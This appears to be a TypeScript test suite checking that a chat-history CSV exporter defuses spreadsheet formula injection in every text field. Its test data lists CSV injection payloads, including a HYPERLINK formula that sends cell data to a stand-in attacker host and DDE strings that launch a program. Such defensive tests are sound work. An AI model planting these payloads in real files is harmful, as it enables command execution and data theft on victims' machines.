import assert from "node:assert/strict";
import { exportHead, exportLine } from "../../src/core/history/export-format";
import type { ExportRecord } from "../../src/core/history/types";

type RequestRecord = Extract<ExportRecord, { type: "request" }>;

const request = (more: Partial<RequestRecord>): RequestRecord => ({
  type: "request",
  id: 1,
  command: "Ask",
  startedAt: 0,
  durationMs: 1200,
  ttftMs: 300,
  outcome: "success",
  endpoint: "ollama",
  model: "m",
  usage: { promptTokens: 1, completionTokens: 2, totalTokens: 3 },
  attempts: [],
  messages: [],
  content: "",
  ...more,
});

/** As RFC 4180 says; independent of the writer. */
function cells(line: string): string[] {
  return [...line.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n)/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? "",
  );
}
const columns = cells(exportHead("csv"));
const cell = (name: string, record: RequestRecord) => cells(exportLine("csv", record))[columns.indexOf(name)];

describe("a model or a server that wants a formula to run when an export is opened in a spreadsheet", () => {
  const attacks = [
    '=HYPERLINK("http://evil.example?"&A1,"Repair")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\rplain",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    '"=1+1',
    "'=1+1",
    " \"'= 1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u0000=1+1",
    "\u202e=1+1",
    "﹦1+1",
    "﹢1",
    "−1+cmd",
  ];
  for (const text of attacks) {
    it(`answers ${JSON.stringify(text)}`, () => {
      const record = request({
        content: text,
        title: text,
        command: text,
        endpoint: text,
        model: text,
        errorMessage: text,
        finishReason: text,
      });
      for (const name of ["answer", "title", "command", "endpoint", "model", "errorMessage", "finishReason"])
        assert.equal(cell(name, record), `'${text}`, name);
    });
  }

  it("finds numbers and ordinary text as they were", () => {
    const record = request({ content: 'a = b - "c", d', title: "1 + 1?", model: "llama3.2", endpoint: "" });
    assert.equal(cell("answer", record), 'a = b - "c", d');
    assert.equal(cell("title", record), "1 + 1?");
    assert.equal(cell("endpoint", record), "");
    assert.equal(
      cell("durationMs", request({ durationMs: -5 })),
      "-5",
      "a number of ours stays one, on a clock that went back too",
    );
    assert.equal(cell("totalTokens", record), "3");
  });

  it("puts text where a number belongs, into the shared store", () => {
    assert.equal(cell("durationMs", request({ durationMs: "=1+1" as unknown as number })), "'=1+1");
  });

  it("ends the whole export with a time that is none", () => {
    assert.equal(cell("startedAt", request({ startedAt: 1e20 })), "100000000000000000000");
  });

  it("holds the writer up with 1 MB of blanks", () => {
    assert.equal(cell("answer", request({ content: " ".repeat(2 ** 20) }))?.length, 2 ** 20);
  });
});
